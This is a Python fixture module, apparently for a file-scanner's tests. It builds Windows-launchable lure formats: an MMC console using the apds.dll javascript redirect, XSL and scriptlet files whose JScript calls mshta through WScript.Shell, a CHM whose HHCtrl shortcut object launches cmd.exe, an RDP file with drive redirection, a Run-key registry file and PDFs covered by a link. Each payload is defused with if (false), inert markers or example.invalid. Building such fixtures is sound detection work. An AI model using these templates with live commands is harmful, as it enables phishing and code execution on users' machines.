"""Fixtures of what Windows itself opens: shortcut files, consoles, scripts, installers, images of disks; and of PDFs with a lure."""

import pathlib
import struct
import subprocess
import tempfile
import zipfile
import io
import zlib

import cfb
import forms
import forms_more as more

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\r\n'
RUN = 'new ActiveXObject("WScript.Shell").Run("mshta http://example.invalid/inert");'


def search_connector(place):
    return (HEAD + '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><description>Documents'
            f"</description><simpleLocation><url>{place}</url></simpleLocation></searchConnectorDescription>\r\n").encode()


def saved_search(place):
    return (HEAD + '<persistedQuery version="1.0"><viewInfo viewMode="details"/><query><kindList><kind name="item"/></kindList><scope>'
            f'<include path="{place}" attributes="0"/></scope></query></persistedQuery>\r\n').encode()


def remote_desktop(address, *more_lines):
    lines = ["screen mode id:i:2", "use multimon:i:0", f"full address:s:{address}", "prompt for credentials:i:0", *more_lines]
    return "\r\n".join([*lines, ""]).encode("utf-16")


REMOTE_LINES = ("drivestoredirect:s:*", "redirectclipboard:i:1", "remoteapplicationmode:i:1", "remoteapplicationprogram:s:||INERT",
                "remoteapplicationname:s:Connection test", "remoteapplicationcmdline:s:%USERPROFILE% %COMPUTERNAME% %USERDNSDOMAIN%")


def console(inside):
    return (HEAD + f'<MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI"><StringTables>{inside}</StringTables></MMC_ConsoleFile>\r\n').encode()


def console_page():
    """The library of Windows shows a page, and the page runs its address (2024)."""
    return console('<StringTable><Strings><String ID="39" Refs="1">res://apds.dll/redirect.html?target=javascript:eval(INERT)</String>'
                   f'<String ID="40" Refs="1">if (false) {{ {RUN.replace(chr(34), "&quot;")} }}</String></Strings></StringTable>')


def console_plain():
    return console('<StringTable><Strings><String ID="1" Refs="1">Services (Local)</String><String ID="2" Refs="2">Event Viewer</String>'
                   "</Strings></StringTable>")


def style_sheet(script=None):
    body = (f'<ms:script implements-prefix="user" language="JScript"><![CDATA[/* {forms.COMMENT} */ if (false) {{ {script} }}]]></ms:script>'
            if script else '<template match="/"><html><body><value-of select="title"/></body></html></template>')
    return (HEAD + '<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" xmlns:user="p" '
            f'version="1.0">{body}</stylesheet>\r\n').encode()


def scriptlet():
    return (HEAD + '<scriptlet><registration progid="inert" classid="{F0001111-0000-0000-0000-0000FEEDACDC}"><script language="JScript">'
            f"<![CDATA[/* {forms.COMMENT} */ if (false) {{ {RUN} }}]]></script></registration></scriptlet>\r\n").encode()


def java_start(address, free):
    rights = "<security><all-permissions/></security>" if free else ""
    return (HEAD + f'<jnlp spec="1.0+" codebase="{address}" href="invoice.jnlp"><information><title>Invoice</title></information>{rights}'
            '<resources><jar href="invoice.jar"/></resources><application-desc main-class="Main"/></jnlp>\r\n').encode()


def jar(members=("Main.class",)):
    """Classes that hold a header and nothing that a machine could run."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("META-INF/MANIFEST.MF", (2026, 11, 24, 9, 0, 0)), "Manifest-Version: 1.0\r\nMain-Class: Main\r\n\r\n")
        for name in members:
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 24, 9, 0, 0)), b"\xCA\xFE\xBA\xBE\0\0\0\x34" + b"INERT SEKISHO TEST " * 20)
    return out.getvalue()


def settings_of_a_script(path):
    return f"[ScriptFile]\r\nPath={path}\r\n[Options]\r\nTimeout=0\r\nDisplayLogo=0\r\n".encode()


def theme(path):
    return f"[Theme]\r\nDisplayName=Autumn\r\n[Control Panel\\Desktop]\r\nPattern=\r\n[VisualStyles]\r\nPath={path}\r\n".encode()


def registry(line):
    return ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
            f"{line}\r\n").encode("utf-16")


INSTALLER = """<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
 <Product Id="12345678-1234-1234-1234-111111111111" UpgradeCode="11111111-2222-3333-4444-555555555555" Name="A" Version="1.0.0"
  Manufacturer="A" Language="1033">
  <Package InstallerVersion="200" Compressed="yes"/><Media Id="1" Cabinet="media1.cab" EmbedCab="yes"/>
  <Directory Id="TARGETDIR" Name="SourceDir">
   <Component Id="Main" Guid="12345678-1234-1234-1234-222222222222"><File Id="File" Name="{0}" Source="{0}"/></Component>
  </Directory>
  <Feature Id="F" Level="1"><ComponentRef Id="Main"/></Feature>
 </Product>
</Wix>
"""


def _made(files, command, out):
    """What a program makes of a few files in a folder."""
    with tempfile.TemporaryDirectory(prefix="sekisho-coverage-") as folder:
        for name, data in files.items():
            pathlib.Path(folder, name).write_bytes(data)
        subprocess.run(command, cwd=folder, shell=True, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return pathlib.Path(folder, out).read_bytes()


def installer(name, data, signed=False):
    """By wixl; signed: with the stream in which a signature stands, and no signature in it."""
    made = _made({name: data, "a.wxs": INSTALLER.format(name).encode()}, "wixl -o a.msi a.wxs", "a.msi")
    if not signed:
        return made
    root = cfb.read(made)
    root.children.append(cfb.Node("\5DigitalSignature", b"INERT SEKISHO TEST, no certificate" * 200))
    return cfb.write(root)


def help_file(page):
    project = ("[OPTIONS]\nCompatibility=1.1 or later\nCompiled file=a.chm\nDefault topic=topic.html\nTitle=A\n\n[FILES]\ntopic.html\n")
    return _made({"topic.html": page.encode(), "a.hhp": project.encode()}, "chmcmd a.hhp", "a.chm")


# The control of help files that starts what its parameter says.
HELP_COMMAND = ('<html><body><p>Invoice</p><OBJECT id=x classid="clsid:52a2aaae-085d-4187-97ea-8c30db990436" width=1 height=1>'
                '<PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut">'
                '<PARAM name="Item1" value=",cmd.exe,/c rem INERT SEKISHO TEST"><PARAM name="Item2" value="273,1,1"></OBJECT>'
                "<SCRIPT>if (false) x.Click();</SCRIPT></body></html>")


def image(kind, name, fixture=None):
    """One file in a file system, a fixture or notes; of VHD and VHDX in the whole of the disk."""
    data = forms.ours(fixture)() if fixture else forms.notes()
    fat = f"truncate -s 2M out.img; /usr/sbin/mkfs.vfat -i 5E4B1540 --invariant out.img; mcopy -i out.img {name} ::{name}"
    commands = {
        "IMG": (fat, "out.img"),
        "VHD": (fat + "; qemu-img convert -f raw -O vpc out.img out.vhd", "out.vhd"),
        "VHDX": (fat + "; qemu-img convert -f raw -O vhdx out.img out.vhdx", "out.vhdx"),
        "UDF": ("", ""),
        "WIM": (f"mkdir in; cp {name} in; wimlib-imagex capture in out.wim --compress=lzx", "out.wim"),
    }
    if kind == "UDF":
        return _udf(name, data)
    return _made({name: data}, *commands[kind])


def _udf(name, data):
    import pycdlib
    out, made = io.BytesIO(), pycdlib.PyCdlib()
    made.new(udf="2.60")
    made.add_fp(io.BytesIO(data), len(data), udf_path=f"/{name}")
    made.write_fp(out)
    made.close()
    return out.getvalue()


IMAGES = ("IMG", "VHD", "VHDX", "UDF", "WIM")


def ace(name, data):
    """One member as it is (method 0), by the published description of the format; nobody packs ACE any more but WinAce itself."""
    def block(kind, flags, rest):
        body = struct.pack("<BH", kind, flags) + rest
        check = zlib.crc32(body) ^ 0xFFFFFFFF
        return struct.pack("<HH", check & 0xFFFF, len(body)) + body
    head = block(0, 0x9000, b"**ACE**" + bytes([20, 20, 2, 0]) + struct.pack("<I", 0x5D784800) + bytes(8) + b"\x16*UNREGISTERED VERSION*")
    fields = struct.pack("<IIIIIBBHHH", len(data), len(data), 0x5D784800, 0x20, zlib.crc32(data) ^ 0xFFFFFFFF, 0, 3, 10, 0x4554, len(name))
    return head + block(1, 0x8001, fields + name.encode()) + data


def _pdf_page(link=None, image_only=True):
    """A page that a link covers, and a picture or some text."""
    picture = zlib.compress(bytes(64 * 64))
    objects = [f"<</Type/XObject/Subtype/Image/Width 64/Height 64/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode/Length {len(picture)}>>"
               "stream\n".encode() + picture + b"\nendstream"]
    content = b"q 595 0 0 842 0 0 cm /I Do Q" if image_only else \
        b"BT /F1 12 Tf 50 700 Td (" + b"Terms of delivery, as agreed in the contract of last year. " * 12 + b") Tj ET"
    objects.append(f"<</Length {len(content)}>>stream\n".encode() + content + b"\nendstream")
    annotations = ""
    if link:
        objects.append(f"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI({link})>>>>".encode())
        annotations = "/Annots[5 0 R]"
    made = more.pdf(*objects)
    page = f"/Resources<</XObject<</I 3 0 R>>/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/Contents 4 0 R{annotations}>>"
    made = made.replace(b"/Resources<<>>>>", page.encode())
    at = made.index(b"xref\n")
    return made[:made.rindex(b"startxref")] + f"startxref\n{at}\n%%EOF\n".encode()


def pdf_lure(link):
    return _pdf_page(link)


def pdf_terms(link):
    return _pdf_page(link, image_only=False)
